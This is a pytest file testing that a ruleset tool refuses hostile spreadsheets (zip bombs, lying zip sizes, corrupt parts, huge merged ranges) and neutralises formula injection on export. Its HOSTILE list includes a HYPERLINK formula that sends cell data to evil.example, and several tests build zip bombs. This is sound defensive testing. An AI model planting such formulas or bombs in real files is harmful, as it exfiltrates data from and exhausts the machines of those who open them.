"""Hostile spreadsheets (issue 25, rows 6 and 7): zip bombs and corrupt parts refused before
parsing; ruleset text that looks like a formula exported as text."""

from __future__ import annotations

import csv
import io
import shutil
import struct
import zipfile
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from nocert_rules import load_ruleset
from nocert_rules.cli.main import main
from nocert_rules.tools.list_export import export_list
from nocert_rules.tools.list_import import import_list
from nocert_rules.tools.list_read import Limits, ListImportError, read_sheets

openpyxl = pytest.importorskip("openpyxl")

ROOT = Path(__file__).resolve().parent.parent
ZIBO = ROOT / "rulesets" / "zibo"


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.stdout, result.stderr


def small_book(path: Path) -> Path:
    book = openpyxl.Workbook()
    book.active.title = "清单"
    book.active.append(["序号", "证明名称"])
    book.save(path)
    return path


def with_sheet(src: Path, dst: Path, sheet_xml: bytes) -> Path:
    """``src`` with its first worksheet part replaced by ``sheet_xml`` (deflated)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = sheet_xml if info.filename == "xl/worksheets/sheet1.xml" else zin.read(info)
            zout.writestr(info.filename, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
    return dst


def test_a_sheet_claiming_two_gigabytes_is_refused_from_the_zip_directory(tmp_path: Path) -> None:
    """The 5 MB file with a 2 GB sheet (issue 25 row 6): refused before any reader runs."""
    path = small_book(tmp_path / "bomb.xlsx")
    raw = bytearray(path.read_bytes())
    at = raw.index(b"PK\x01\x02")  # the first central directory entry: its uncompressed size at +24
    raw[at + 24:at + 28] = struct.pack("<I", 2_000_000_000)
    path.write_bytes(bytes(raw))
    with pytest.raises(ListImportError, match=r"unzips to 2,0\d\d,\d{3},\d{3} bytes, over the limit"):
        read_sheets(path)
    code, _, err = run("import-list", str(path), "--out", str(tmp_path / "c.yaml"))
    assert code == 2 and "over the limit" in err and "Traceback" not in err
    assert not (tmp_path / "c.yaml").exists()


def test_a_real_zip_bomb_is_refused_and_one_that_lies_about_its_size_too(tmp_path: Path) -> None:
    """A sheet part of 64 MB of zeros (64 KB deflated): refused by the sizes its zip directory gives;
    with those sizes patched to 1 KB, the part is unzipped in chunks and fails its CRC (never read on)."""
    base = small_book(tmp_path / "base.xlsx")
    bomb = with_sheet(base, tmp_path / "bomb.xlsx", b"<worksheet>" + b"\0" * (64 << 20))
    assert bomb.stat().st_size < 200_000
    with pytest.raises(ListImportError, match="unzips to 67,1\\d\\d,\\d{3} bytes, over the limit of 16,777,216"):
        read_sheets(bomb, limits=Limits(max_unzipped_bytes=16 << 20))
    raw = bytearray(bomb.read_bytes())
    name = b"xl/worksheets/sheet1.xml"
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = raw.index(signature)
        while raw[at + (30 if signature == b"PK\x03\x04" else 46):][:len(name)] != name:
            at = raw.index(signature, at + 4)
        raw[at + size_at:at + size_at + 4] = struct.pack("<I", 1024)
    bomb.write_bytes(bytes(raw))
    with pytest.raises(ListImportError, match="sheet1.xml is corrupt"):
        read_sheets(bomb, limits=Limits(max_unzipped_bytes=16 << 20))


@pytest.mark.parametrize("reader", ["calamine", "openpyxl"])
def test_rows_are_counted_before_parsing(tmp_path: Path, reader: str) -> None:
    if reader == "calamine":
        pytest.importorskip("python_calamine")
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (i, i) for i in range(1, 3_001))
    xml = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
           b'spreadsheetml/2006/main"><sheetData>' + rows + b"</sheetData></worksheet>")
    path = with_sheet(small_book(tmp_path / "base.xlsx"), tmp_path / "rows.xlsx", xml)
    with pytest.raises(ListImportError, match="has more than 2,000 rows"):
        read_sheets(path, reader=reader, limits=Limits(max_rows=2_000))
    assert len(read_sheets(path, reader=reader, limits=Limits(max_rows=5_000))[0].cells) == 3_000


@pytest.mark.parametrize("reader", ["calamine", "openpyxl"])
def test_whatever_the_reader_raises_is_one_typed_error(tmp_path: Path, reader: str) -> None:
    if reader == "calamine":
        pytest.importorskip("python_calamine")
    path = with_sheet(small_book(tmp_path / "base.xlsx"), tmp_path / "bad.xlsx", b"<worksheet><sheetData><row r=")
    with pytest.raises(ListImportError, match="not a readable workbook") as info:
        read_sheets(path, reader=reader)
    assert "无法读取工作簿" in str(info.value) and "Traceback" not in str(info.value)
    if reader == "calamine":  # calamine reads sheet by sheet: the error names the one it was reading
        assert "清单" in str(info.value)


@pytest.mark.parametrize("reader", ["calamine", "openpyxl"])
def test_a_huge_merged_range_is_refused_before_any_reader_fills_it(tmp_path: Path, reader: str) -> None:
    """A1:Z900000 merged in a 2 KB file: openpyxl alone would make 23 million cells of it."""
    if reader == "calamine":
        pytest.importorskip("python_calamine")
    xml = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
           b'spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>'
           b'</sheetData><mergeCells count="1"><mergeCell ref="A1:Z900000"/></mergeCells></worksheet>')
    path = with_sheet(small_book(tmp_path / "base.xlsx"), tmp_path / "merged.xlsx", xml)
    with pytest.raises(ListImportError, match="merged range A1:Z900000 reaches past 200,000 rows"):
        read_sheets(path, reader=reader)


def test_a_big_csv_is_refused_by_size_and_rows(tmp_path: Path) -> None:
    path = tmp_path / "l.csv"
    path.write_text("a\n" * 3_000, encoding="utf-8")
    with pytest.raises(ListImportError, match="more than 1,000 rows"):
        read_sheets(path, limits=Limits(max_rows=1_000))
    with pytest.raises(ListImportError, match="the file has 6,000 bytes, over the limit of 100"):
        read_sheets(path, limits=Limits(max_file_bytes=100))


# ---------------------------------------------------------------- row 7: formula injection on export

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1"]


def hostile_ruleset(tmp_path: Path) -> Path:
    folder = tmp_path / "rs"
    shutil.copytree(ZIBO, folder, ignore=shutil.ignore_patterns("tests"))
    doc = yaml.safe_load((folder / "certificates.yaml").read_text(encoding="utf-8"))
    for row, text in zip(doc["rows"], HOSTILE, strict=False):
        row["note"] = text
    doc["rows"][0]["issuer"] = HOSTILE[0]
    (folder / "certificates.yaml").write_text(yaml.safe_dump(doc, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return folder


def test_xlsx_export_writes_formula_like_text_as_text(tmp_path: Path) -> None:
    folder = hostile_ruleset(tmp_path)
    out = tmp_path / "l.xlsx"
    export_list(load_ruleset(folder), out)
    ws = openpyxl.load_workbook(out)["清单"]
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r"]
    assert {c.value for c in cells} >= set(HOSTILE[:4])
    assert all(c.data_type == "s" for c in cells)  # no formula cell anywhere
    with zipfile.ZipFile(out) as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
    # and the list owner's import gives back the very text
    folder2 = tmp_path / "back"
    shutil.copytree(folder, folder2)
    result = import_list(out, ruleset=folder2)
    assert result.ok and result.rows == load_ruleset(folder).rows


def test_csv_export_prefixes_a_quote_where_a_formula_character_starts_a_cell(tmp_path: Path) -> None:
    folder = hostile_ruleset(tmp_path)
    out = tmp_path / "l.csv"
    export_list(load_ruleset(folder), out)
    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for text in HOSTILE[:4]:  # (the loader strips a note's leading TAB / CR: "=1+1" and "=1" stay)
        assert "'" + text in cells
    assert "'=1+1" in cells and "'=1" in cells
    result = import_list(out)
    assert result.ok and result.rows == load_ruleset(folder).rows  # the quote is taken off again
